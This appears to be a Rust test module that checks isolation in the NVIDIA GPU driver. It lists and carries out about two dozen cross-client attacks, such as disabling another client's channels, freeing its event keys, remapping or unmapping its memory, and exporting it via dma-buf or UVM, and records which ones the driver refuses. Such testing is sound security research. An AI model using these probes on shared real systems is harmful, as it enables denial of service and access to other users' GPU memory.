// SPDX-License-Identifier: GPL-2.0
//! Handles of another client, in every call that has room for one (nvidia-protocol 6.2).

use super::{
    attack::attacks,
    scene::{escape, told, Attacker, MIB, OWN},
    victims,
};
use crate::{
    bytes::{put_u32, put_u64, u32_at},
    guest::{rm, tools::Verdict, uvm},
    layout, sys,
};

attacks! {
    "a GSS legacy control on another's subdevice": "rmapi_gss_legacy_control.c:RmGssLegacyRpcCmd",
        Passes, Victim, gss;
    "a GSS legacy control for administrators": "rmapi_gss_legacy_control.c:RmGssLegacyRpcCmd",
        Refuses, Victim, gss_admin;
    "another's channels stopped (FIFO_DISABLE_CHANNELS)": "kernel_fifo_ctrl.c:subdeviceCtrlCmdFifoDisableChannels_IMPL",
        Passes, Victim, disable_channels;
    "another's channels idled (IDLE_CHANNELS)": "kernel_idle_channels.c:RmIdleChannels",
        NotModelled, Told, idle_control;
    "another's address space shared by a device (hClientShare)": "device_share.c:deviceInitClientShare",
        Passes, Told, client_share;
    "a device for another client (hTargetClient)": "device.c:deviceConstruct_IMPL",
        Passes, Told, target_client;
    "another's memory as a dma-buf (EXPORT_TO_DMABUF_FD)": "osapi.c:RmDmabufVerifyMemHandle",
        NotModelled, Told, dmabuf;
    "an event of the crashes of others (RC_ERROR)": "gpu_rmapi.c:gpuNotifySubDeviceEvent_IMPL",
        Passes, Told, crashes;
    "the key of another's event taken (ALLOC_OS_EVENT)": "osapi.c:allocate_os_event",
        Passes, Victim, take_event_key;
    "the key of another's event freed (FREE_OS_EVENT)": "osapi.c:free_os_event",
        Passes, Victim, free_event_key;
    "an event on another's object (NV0005 hParentClient)": "event.c:eventConstruct_IMPL",
        Passes, Told, event_parent;
    "a debugger on another's compute object (hAppClient)": "kernel_sm_debugger_session.c:ksmdbgssnConstruct_IMPL",
        Refuses, Told, debugger;
    "a copy of memory shared with all": "rs_client.c:clientCopyResource_IMPL",
        Passes, Told, dup_shared;
    "a copy of memory that is not shared": "rs_client.c:clientCopyResource_IMPL",
        Refuses, Told, dup_private;
    "another's object shared with all (RM_SHARE)": "sharing.c:rmapiShareWithSecInfo",
        Refuses, Told, share_theirs;
    "an entry in another's client by sharing (RM_SHARE)": "rs_server.c:_serverShareResourceAccessClient",
        Passes, Told, share_with;
    "an entry in another's client by inheritance (0xd04)": "client_resource.c:cliresCtrlCmdClientSetInheritedSharePolicy_IMPL",
        Passes, Told, inherit;
    "another's mapping moved (UPDATE_DEVICE_MAPPING_INFO)": "osapi.c:rm_update_device_mapping_info",
        Passes, Victim, move_mapping;
    "another's memory mapped (RM_MAP_MEMORY)": "client.c:rmclientValidate_IMPL",
        Refuses, Told, map;
    "another's mapping ended (RM_UNMAP_MEMORY)": "client.c:rmclientValidate_IMPL",
        Refuses, Victim, unmap;
    "another's mapping for the GPU ended (RM_UNMAP_MEMORY_DMA)": "client.c:rmclientValidate_IMPL",
        Refuses, Told, unmap_dma;
    "another's memory freed (RM_FREE)": "client.c:rmclientValidate_IMPL",
        Refuses, Victim, free;
    "memory made in another's client (RM_ALLOC)": "client.c:rmclientValidate_IMPL",
        Refuses, Victim, alloc;
    "a control on another's client (RM_CONTROL)": "client.c:rmclientValidate_IMPL",
        Refuses, Told, control;
    "another's address space registered with UVM": "client_resource.c:cliresShareCallback_IMPL",
        Refuses, Told, uvm_vaspace;
    "another's channel registered with UVM": "client_resource.c:cliresShareCallback_IMPL",
        Refuses, Told, uvm_channel;
    "another's memory mapped through UVM": "client_resource.c:cliresShareCallback_IMPL",
        Refuses, Told, uvm_map;
}

fn gss(a: &Attacker) -> Verdict {
    gss_with(a, 0x2080_8159)
}

fn gss_admin(a: &Attacker) -> Verdict {
    gss_with(a, 0x2080_c159)
}

fn gss_with(a: &Attacker, cmd: u32) -> Verdict {
    a.control_of(a.victim.client, rm::SUBDEVICE_HANDLE, cmd, &mut [0; 332])
}

/// NV2080_CTRL_FIFO_DISABLE_CHANNELS_PARAMS for the victim's channel.
pub(super) fn disable(client: u32, off: bool) -> [u8; 536] {
    let mut params = [0; 536];
    params[0] = u8::from(off);
    put_u32(&mut params, 4, 1);
    put_u32(&mut params, 24, client);
    put_u32(&mut params, 280, victims::CHANNEL);
    params
}

fn disable_channels(a: &Attacker) -> Verdict {
    let mut params = disable(a.victim.client, true);
    a.control(rm::SUBDEVICE_HANDLE, 0x2080_110b, &mut params)
}

fn idle_control(a: &Attacker) -> Verdict {
    let (clients, channels) = ([a.victim.client], [victims::CHANNEL]);
    let mut params = [0; 48];
    put_u32(&mut params, 8, 1);
    put_u64(&mut params, 16, clients.as_ptr() as u64);
    put_u64(&mut params, 24, [rm::DEVICE_HANDLE].as_ptr() as u64);
    put_u64(&mut params, 32, channels.as_ptr() as u64);
    a.control(a.client.handle, 0x283, &mut params)
}

/// A device object whose parameters name the victim's client at `at`: of a client of its own, since
/// a client has one for each GPU.
fn device(a: &Attacker, at: usize) -> Verdict {
    let mut params = [0; 56];
    put_u32(&mut params, 0, a.victim.gpus.instance);
    put_u32(&mut params, at, a.victim.client);
    let ctl = a.client.ctl;
    let own = a.prepare("a client", rm::alloc(ctl, 0, 0, 0, rm::ROOT, &mut []))?;
    let made = told_handle(rm::alloc(ctl, own, own, OWN, rm::DEVICE, &mut params));
    a.prepare("the client's end", rm::free(ctl, own, own))?;
    made.map(|_| ())
}

fn told_handle(answer: Result<u32, rm::Failure>) -> Result<u32, String> {
    answer.map_err(|refused| refused.to_string())
}

fn client_share(a: &Attacker) -> Verdict {
    device(a, 4)
}

fn target_client(a: &Attacker) -> Verdict {
    device(a, 8)
}

fn dmabuf(a: &Attacker) -> Verdict {
    let mut outer = [0; 2608];
    put_u32(&mut outer, 0, u32::MAX);
    put_u32(&mut outer, 4, a.victim.client);
    put_u32(&mut outer, 8, 1);
    put_u32(&mut outer, 12, 1);
    put_u64(&mut outer, 24, MIB);
    put_u32(&mut outer, 36, victims::MEMORY);
    put_u64(&mut outer, 1576, MIB);
    told(escape(a.client.gpu, 217, &mut outer, 2600))
}

fn take_event_key(a: &Attacker) -> Verdict {
    a.os_event(206, a.victim.client, 4242)
}

fn free_event_key(a: &Attacker) -> Verdict {
    a.os_event(207, a.victim.client, victims::EVENT)
}

fn event_parent(a: &Attacker) -> Verdict {
    a.event_key(5)?;
    let mut params = [0; 24];
    put_u32(&mut params, 0, a.victim.client);
    put_u32(&mut params, 4, rm::SUBDEVICE_HANDLE);
    put_u32(&mut params, 8, layout::CLASS_OS_EVENT);
    put_u32(&mut params, 12, rm::ENGINE_EVENT);
    put_u64(&mut params, 16, 5);
    a.alloc(
        rm::SUBDEVICE_HANDLE,
        OWN,
        layout::CLASS_OS_EVENT,
        &mut params,
    )
}

/// NV2080_NOTIFIERS_RC_ERROR of the attacker's own subdevice, which tells of every program.
fn crashes(a: &Attacker) -> Verdict {
    a.event_key(5)?;
    let mut params = [0; 24];
    put_u32(&mut params, 0, a.client.handle);
    put_u32(&mut params, 8, layout::CLASS_OS_EVENT);
    put_u32(&mut params, 12, 0x25);
    put_u64(&mut params, 16, 5);
    let class = layout::CLASS_OS_EVENT;
    a.alloc(rm::SUBDEVICE_HANDLE, OWN, class, &mut params)
}

fn debugger(a: &Attacker) -> Verdict {
    let mut params = [0; 12];
    put_u32(&mut params, 4, a.victim.client);
    put_u32(&mut params, 8, victims::COMPUTE);
    a.alloc(rm::DEVICE_HANDLE, OWN, 0x83de, &mut params)
}

fn dup(a: &Attacker, memory: u32) -> Verdict {
    let source = (a.victim.client, memory);
    told(rm::dup(
        a.client.ctl,
        a.client.handle,
        rm::DEVICE_HANDLE,
        OWN,
        source,
    ))
}

fn dup_shared(a: &Attacker) -> Verdict {
    dup(a, victims::SHARED)
}

fn dup_private(a: &Attacker) -> Verdict {
    dup(a, victims::MEMORY)
}

/// RM_SHARE of an object, with all or one client.
fn share(a: &Attacker, client: u32, object: u32, kind: u8, target: u32) -> Verdict {
    let mut outer = [0; 24];
    for (at, value) in [(0, client), (4, object), (8, target), (12, 1)] {
        put_u32(&mut outer, at, value);
    }
    outer[16] = kind;
    a.escape(0x35, &mut outer, 20)
}

fn share_theirs(a: &Attacker) -> Verdict {
    share(a, a.victim.client, victims::MEMORY, 1, 0)
}

fn share_with(a: &Attacker) -> Verdict {
    a.memory(OWN, 2 * MIB)?;
    share(a, a.client.handle, OWN, 3, a.victim.client)
}

fn inherit(a: &Attacker) -> Verdict {
    let mut params = [0; 12];
    put_u32(&mut params, 0, a.victim.client);
    put_u32(&mut params, 4, 1);
    params[8] = 3;
    a.control(a.client.handle, 0xd04, &mut params)
}

fn move_mapping(a: &Attacker) -> Verdict {
    let mut outer = [0; 40];
    put_u32(&mut outer, 0, a.victim.client);
    put_u32(&mut outer, 4, rm::DEVICE_HANDLE);
    put_u32(&mut outer, 8, victims::MEMORY);
    put_u64(&mut outer, 16, a.victim.mapped);
    put_u64(&mut outer, 24, 0x1234_5000);
    a.escape(0x5e, &mut outer, 32)
}

fn map(a: &Attacker) -> Verdict {
    let names = (a.victim.client, rm::DEVICE_HANDLE, victims::MEMORY);
    told(rm::map(a.client.ctl, names, MIB, 0, a.client.gpu))
}

fn unmap(a: &Attacker) -> Verdict {
    let mut outer = [0; 32];
    put_u32(&mut outer, 0, a.victim.client);
    put_u32(&mut outer, 4, rm::DEVICE_HANDLE);
    put_u32(&mut outer, 8, victims::MEMORY);
    put_u64(&mut outer, 16, a.victim.mapped);
    a.escape(0x4f, &mut outer, 24)
}

fn unmap_dma(a: &Attacker) -> Verdict {
    let mut outer = [0; 48];
    put_u32(&mut outer, 0, a.victim.client);
    put_u32(&mut outer, 4, rm::DEVICE_HANDLE);
    put_u32(&mut outer, 8, victims::VASPACE);
    put_u32(&mut outer, 12, victims::MEMORY);
    a.escape(0x58, &mut outer, 40)
}

fn free(a: &Attacker) -> Verdict {
    told(rm::free(a.client.ctl, a.victim.client, victims::MEMORY))
}

fn alloc(a: &Attacker) -> Verdict {
    let (ctl, client) = (a.client.ctl, a.victim.client);
    let mut params = rm::memory_params(client, 2 * MIB);
    told(rm::alloc(
        ctl,
        client,
        rm::DEVICE_HANDLE,
        OWN,
        rm::VIDEO_MEMORY,
        &mut params,
    ))
}

fn control(a: &Attacker) -> Verdict {
    a.control_as_sized(
        a.victim.client,
        rm::SUBDEVICE_HANDLE,
        layout::FB_GET_INFO_V2,
        &mut [0; 1028],
    )
}

/// A UVM file with the GPU in it. The attack's process ends soon, and all its files with it.
fn uvm_file(a: &Attacker) -> Result<i32, String> {
    let space = a.prepare("a UVM file", uvm::Space::open(&a.folder))?;
    a.prepare("the GPU in UVM", space.register_gpu(&a.victim.gpus.uuid))?;
    Ok(space.fd)
}

/// A UVM request; the status is at `at`.
fn request(fd: i32, cmd: u32, params: &mut [u8], at: usize) -> Verdict {
    sys::ioctl(fd, cmd, params).map_err(|e| format!("errno {e}"))?;
    match u32_at(params, at) {
        0 => Ok(()),
        status => Err(format!("status {status:#x}")),
    }
}

fn uvm_vaspace(a: &Attacker) -> Verdict {
    let fd = uvm_file(a)?;
    let mut params = [0; 32];
    params[..16].copy_from_slice(&a.victim.gpus.uuid);
    put_u32(&mut params, 20, a.victim.client);
    put_u32(&mut params, 24, victims::VASPACE);
    request(fd, 25, &mut params, 28)
}

fn uvm_channel(a: &Attacker) -> Verdict {
    let fd = uvm_file(a)?;
    let mut params = [0; 56];
    params[..16].copy_from_slice(&a.victim.gpus.uuid);
    put_u32(&mut params, 20, a.victim.client);
    put_u32(&mut params, 24, victims::CHANNEL);
    put_u64(&mut params, 32, 0x20_0000_0000);
    put_u64(&mut params, 40, 2 * MIB);
    request(fd, 27, &mut params, 48)
}

fn uvm_map(a: &Attacker) -> Verdict {
    let fd = uvm_file(a)?;
    a.space(OWN, &mut uvm::space_params())?;
    let mut space = [0; 32];
    space[..16].copy_from_slice(&a.victim.gpus.uuid);
    put_u32(&mut space, 20, a.client.handle);
    put_u32(&mut space, 24, OWN);
    let registered = request(fd, 25, &mut space, 28);
    a.prepare("the address space in UVM", registered)?;
    let (base, length) = (0x20_0000_0000, 2 * MIB);
    let mut range = [0; 24];
    put_u64(&mut range, 0, base);
    put_u64(&mut range, 8, length);
    a.prepare("a range in UVM", request(fd, 73, &mut range, 16))?;
    let memory = (a.victim.client, victims::MEMORY);
    let params = uvm::map_params((base, length), &a.victim.gpus.uuid, memory);
    let params = params.ok_or("this driver's are not known");
    let mut params = a.prepare("the parameters of UVM", params)?;
    let status_at = params.len() - 4;
    request(fd, 33, &mut params, status_at)
}
